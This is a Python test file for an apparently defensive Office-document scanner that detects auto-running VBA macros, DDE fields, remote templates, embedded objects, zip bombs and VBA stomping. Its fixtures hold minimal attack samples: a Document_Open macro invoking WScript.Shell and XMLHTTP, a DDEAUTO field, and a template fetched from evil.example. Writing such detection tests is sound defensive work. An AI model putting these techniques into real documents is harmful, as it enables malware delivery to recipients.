"""Facts of Office documents, made here and, where the test data is at hand, of oletools' own."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from safecare.formats.macros import macro_facts
from safecare.formats.office import OFFICE_FACTS, office_facts
from safecare.formats.zips import PIECE
from safecare.scenarios.make.cfb import compound_file
from safecare.scenarios.make.office import MAX_PLAIN, archive, compress, document, document_with_macro, vba_project

DATA = os.environ.get("SAFECARE_DATA", "")
TYPES = b"<Types/>"


def package(**members: bytes) -> bytes:
    return archive({"[Content_Types].xml": TYPES, **{name.replace("__", "/"): raw for name, raw in members.items()}})


def relation(kind: str, target: str) -> bytes:
    return (
        f'<Relationships><Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def test_macro_is_seen_and_plain_document_is_clean() -> None:
    assert office_facts(document("Bonjour")) == set()
    assert office_facts(document_with_macro("Bonjour")) == {"office.macro", "office.macro.autoexec"}


def test_meaning_of_macros() -> None:
    source = (
        'Attribute VB_Name = "ThisDocument"\r\nSub Document_Open()\r\n'
        'Set a = CreateObject("WScript.Shell")\r\nSet b = CreateObject("MSXML2.XMLHTTP")\r\na.Run "x"\r\nEnd Sub\r\n'
    )
    facts = office_facts(vba_project(source))
    assert {"office.macro.autoexec", "office.macro.execute", "office.macro.download"} <= facts


def test_outside_template() -> None:
    raw = package(**{"word___rels__settings.xml.rels": relation("attachedTemplate", "https://evil.example/a.dotm")})
    assert "office.external.template" in office_facts(raw)
    raw = package(**{"word___rels__settings.xml.rels": relation("attachedTemplate", "file:///C:/Users/a/Normal.dotm")})
    assert "office.external.template" not in office_facts(raw)
    raw = package(**{"word___rels__document.xml.rels": relation("hyperlink", "https://chu.example/")})
    assert office_facts(raw) == set()


def test_dde_split_over_runs() -> None:
    xml = b"<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\x</w:instrText>"
    assert "office.dde" in office_facts(package(**{"word__document.xml": xml}))


def test_dde_far_inside_a_large_document_is_found_wherever_the_pieces_are_cut() -> None:
    """Pieces of a megabyte are cut in front of a tag: the code of a field is never lost between two."""
    run = b"<w:r><w:t>Compte rendu %07d</w:t></w:r>"
    text = b"".join(run % number for number in range(30_000))
    code = b"<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\x</w:instrText></w:r>"
    for place in range(PIECE - 100, PIECE + 20, 7):
        at = place // len(run % 0) * len(run % 0)
        padded = text[:at] + b" " * (place - at) + code + text[at:]
        assert "office.dde" in office_facts(package(**{"word__document.xml": padded})), place
    assert office_facts(package(**{"word__document.xml": text * 20})) == set()


def test_bomb_inside_a_document_is_a_limit() -> None:
    raw = package(**{"word__document.xml": bytes(40 * 1024 * 1024)})
    assert "office.limit" in office_facts(raw)


def test_damaged_project() -> None:
    raw = document_with_macro("x")
    broken = vba_project("Attribute VB_Name = 1\r\n")[:1200]
    assert office_facts(broken) <= OFFICE_FACTS.keys()
    assert office_facts(raw[: len(raw) // 2]) == {"office.broken"}


def test_rtf_object() -> None:
    assert "office.embedded.object" in office_facts(rb"{\rtf1{\object\objdata 0105}}")


@given(st.integers(0, 3000), st.binary(min_size=1, max_size=4))
@settings(max_examples=150, deadline=None)
def test_damaged_documents_never_raise(place: int, noise: bytes) -> None:
    for raw in (
        vba_project('Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nEnd Sub\r\n'),
        document_with_macro("x"),
    ):
        at = place % len(raw)
        assert office_facts(raw[:at] + noise + raw[at + len(noise) :]) <= OFFICE_FACTS.keys()


def test_writer_keeps_its_bounds() -> None:
    with pytest.raises(ValueError, match="bytes"):
        compress(bytes(MAX_PLAIN + 1))
    with pytest.raises(ValueError, match="bytes"):
        compound_file({"a": bytes(4096)})


@pytest.mark.slow
@pytest.mark.skipif(not DATA, reason="no data: SAFECARE_DATA is not set")
def test_documents_of_oletools() -> None:
    folder = Path(DATA) / "files" / "office"
    found = {path.name: office_facts(path.read_bytes()) for path in folder.rglob("*") if path.is_file()}
    encrypted = {name for path in (folder / "encrypted").iterdir() if (name := path.name)}
    assert all("office.encrypted" in found[name] for name in encrypted)
    harmless = {name for name in found if name.startswith("harmless")}
    assert harmless
    assert not any(found[name] for name in harmless)
    assert "office.dde" in found["dde-test.docx"]
    assert "office.macro.xlm" in found["excel4_sample_macro.xlt"]


def compiled(text: bytes, code: int = 0xB9) -> bytes:
    """Return compiled code with one string: LitStr of VBA 7 (B9) or 6 (B6), its length, its letters."""
    return bytes(30) + bytes((code, 0, len(text), 0)) + text + b"\x41\x40\x04\0"


@pytest.mark.parametrize("code", [0xB6, 0xB9])
def test_a_macro_whose_source_was_exchanged_is_told_by_its_strings(code: int) -> None:
    """VBA stomping (MITRE ATT&CK T1564.007): what runs is compiled, what is shown says nothing of it."""
    source = b'Sub AutoOpen()\r\nMsgBox "see ""annex"" on page 2"\r\nEnd Sub\r\n'
    stomped = macro_facts(source, compiled(b"C:\\Users\\Public\\update.dat", code))
    assert {"office.macro.obfuscated", "office.macro.execute"} <= stomped
    honest = macro_facts(source, compiled(b'see "annex" on page 2', code))
    assert not {"office.macro.obfuscated", "office.macro.execute"} & honest
    assert macro_facts(source, compiled(b"short", code)) == honest
    assert macro_facts(source, compiled(b"cut off, and longer than six", code)[:40]) == honest
